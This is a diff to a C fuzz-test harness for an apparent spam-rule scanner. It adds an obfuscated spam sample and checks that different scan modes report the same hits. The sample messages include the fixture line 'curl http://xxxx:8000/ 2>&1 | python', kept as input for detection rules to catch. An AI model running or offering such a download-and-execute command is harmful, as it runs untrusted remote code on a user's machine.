@@ -20,6 +20,10 @@
  * hits and details must be those of the first scan; so must a fourth's,
  * where every regex that would run is put off while a scored meta is
  * settled over bounds (rules_set_settle(rs, 1)).
+ * Each scan reads a second message too, whose texts are plain (ASCII, no
+ * '&'), where the slots with a run of byte classes are ruled out when
+ * the run is missing (prefilter.c's class_runs); it has look-alike
+ * spellings, separators between letters and runs of digits and hex.
  */
 #include "autoconfig.h"
 
@@ -53,6 +57,13 @@ static const char MSG[] =
 	"curl http://xxxx:8000/ 2>&1 | python\n"
 	"order id a3f9c2e1-b7d04e55f for CONGRATULATIONSWINNERS, usd 12,345.67 paid\n";
 
+static const char PLAIN[] =
+	"From: Winner <w1nner@x.test>\nTo: c@d.test\nSubject: Y0ur pr1ce c.l.i.c.k h e r e\n"
+	"Message-ID: <a3f9c2e1-b7d0-4e55-9f00-123456789abc@x.test>\n\n"
+	"V-i-a-g-r-a and c1a|1s at l0w pr!c3s, m1ll!0n dollars, p r i c e s, k!ll\n"
+	"Send the 4444 5555 6666 7777 number and 0xdeadbeefcafe1234 today\n"
+	"a social call for the securities sector, cheap meds online\n";
+
 /* append - every hit of h as "name detail\n" */
 static void append(struct buf *b, const struct hits *h)
 {
@@ -73,25 +84,52 @@ static unsigned long long limits(void)
 	return n;
 }
 
-/* run - scan MSG; the hits and, with subrules, the subrules as text
- * (caller frees) */
-static char *run(struct engine *e, bool subrules)
+/* hits_only - s without the subrules (the lines from each "--" to its
+ * "##"), as a run without subrules writes it (caller frees) */
+static char *hits_only(const char *s)
 {
-	struct hits sub = { 0 };
 	struct buf b;
-	struct scan *sc = scan_new(e);
+	bool sub = false;
 
 	buf_init(&b);
-	sc->no_dns = true;
-	if (subrules)
-		sc->hits.subrules = &sub;
-	mboxfile_feed(sc, MSG, strlen(MSG));
-	scan_finish(sc);
-	append(&b, &sc->hits);
-	buf_puts(&b, "--\n");
-	append(&b, &sub);
-	scan_free(sc);
-	hits_clear(&sub);
+	buf_puts(&b, "");
+	for (const char *p = s; *p;) {
+		const char *nl = strchr(p, '\n');
+		size_t n = nl ? (size_t)(nl - p) + 1 : strlen(p);
+		if (n == 3 && strncmp(p, "##\n", 3) == 0)
+			sub = false;
+		if (!sub)
+			buf_append(&b, p, n);
+		if (n == 3 && strncmp(p, "--\n", 3) == 0)
+			sub = true;
+		p += n;
+	}
+	return b.data;
+}
+
+/* run - scan MSG, then PLAIN; the hits of each and, with subrules, the
+ * subrules as text (caller frees) */
+static char *run(struct engine *e, bool subrules)
+{
+	static const char *const msgs[] = { MSG, PLAIN };
+	struct buf b;
+
+	buf_init(&b);
+	for (int k = 0; k < 2; k++) {
+		struct hits sub = { 0 };
+		struct scan *sc = scan_new(e);
+		sc->no_dns = true;
+		if (subrules)
+			sc->hits.subrules = &sub;
+		mboxfile_feed(sc, msgs[k], strlen(msgs[k]));
+		scan_finish(sc);
+		append(&b, &sc->hits);
+		buf_puts(&b, "--\n");
+		append(&b, &sub);
+		buf_puts(&b, "##\n");
+		scan_free(sc);
+		hits_clear(&sub);
+	}
 	return b.data;
 }
 
@@ -114,17 +152,19 @@ int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
 		struct engine *e = engine_new(config_parse_buf("f", "", 0, &err), rs, stage_registry);
 		unsigned long long before = limits();
 		char *on = run(e, true);
-		char *lazy = run(e, false);	/* the hits of on, then "--\n" */
+		char *lazy = run(e, false);	/* the hits of on, without subrules */
 		rules_set_settle(rs, 1);	/* every regex put off while settling */
 		char *settled = run(e, false);
 		rules_set_prefilter(rs, false);
 		char *off = run(e, true);
 		if (strcmp(on, off) != 0 && limits() == before)
 			abort();
-		if (strncmp(on, lazy, strlen(lazy)) != 0 && limits() == before)
+		char *hits = hits_only(on);
+		if (strcmp(hits, lazy) != 0 && limits() == before)
 			abort();
-		if (strncmp(on, settled, strlen(settled)) != 0 && limits() == before)
+		if (strcmp(hits, settled) != 0 && limits() == before)
 			abort();
+		free(hits);
 		free(on);
 		free(lazy);
 		free(settled);
